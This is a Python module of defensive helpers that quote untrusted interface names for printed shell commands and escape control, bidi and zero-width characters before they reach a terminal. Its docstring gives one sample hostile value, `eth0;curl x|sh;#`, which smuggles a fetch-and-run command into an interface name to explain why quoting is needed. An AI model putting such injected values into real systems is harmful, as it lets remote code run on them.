"""Text from outside (facts files, the kernel, config files) on its way to a shell or a terminal.

Interface names and other strings from facts are hostile until shown otherwise: `eth0;curl x|sh;#` is a
valid facts-file name, and a kernel name may hold an ESC. Two helpers, used by every check and renderer:
`shell_word` quotes a value for a printed command, `escape_control` makes a line safe for a terminal.
"""

from __future__ import annotations

import re
import shlex

# what a shell, a udev rule, YAML and XML all take as one plain word
_PLAIN = re.compile(r"[A-Za-z0-9_.:@%+,=-]+")


def shell_word(value: object) -> str:
    """`value` as one shell word (shlex.quote): `shlex.split` gives it back whole, nothing in it runs."""
    return shlex.quote(str(value))


def is_plain(value: str) -> bool:
    """Safe to print unquoted in any config syntax (udev, netplan, XML): no quotes, spaces or metacharacters."""
    return bool(_PLAIN.fullmatch(value))


def plain_or(value: str, placeholder: str) -> str:
    """The value where it is plain, else a placeholder the reader fills in (for config snippets, not commands)."""
    return value if is_plain(value) else placeholder


# What the JSON renderer must escape beyond json.dumps (escape_control escapes all of it and more): C0/C1
# controls and DEL, lone surrogates, and format characters that reorder or hide text (soft hyphen,
# zero-width and bidi controls, line/paragraph separators, BOM, tags): a terminal must show them, not obey them
UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f"
                     "\ufeff\ufff9-\ufffb\ud800-\udfff\U000e0000-\U000e007f]")
_NAMED = {"\n": "\\n", "\t": "\\t", "\r": "\\r"}


def _escape_char(ch: str) -> str:
    if ch in _NAMED:
        return _NAMED[ch]
    code = ord(ch)
    if code < 0x100:
        return f"\\x{code:02x}"
    return f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}"


def escape_control(text: object) -> str:
    """Control characters as visible escapes (`\\x1b`, `\\n`, `\\u202e`), so a terminal shows them, never obeys them.

    Every character Python does not call printable is escaped (all of UNSAFE, and unassigned code points and
    separators other than the plain space too); newlines are escaped as well: callers escape each value (or
    each line) and join lines themselves.
    """
    value = str(text)
    if value.isprintable():
        return value
    return "".join(ch if ch.isprintable() or ch == " " else _escape_char(ch) for ch in value)
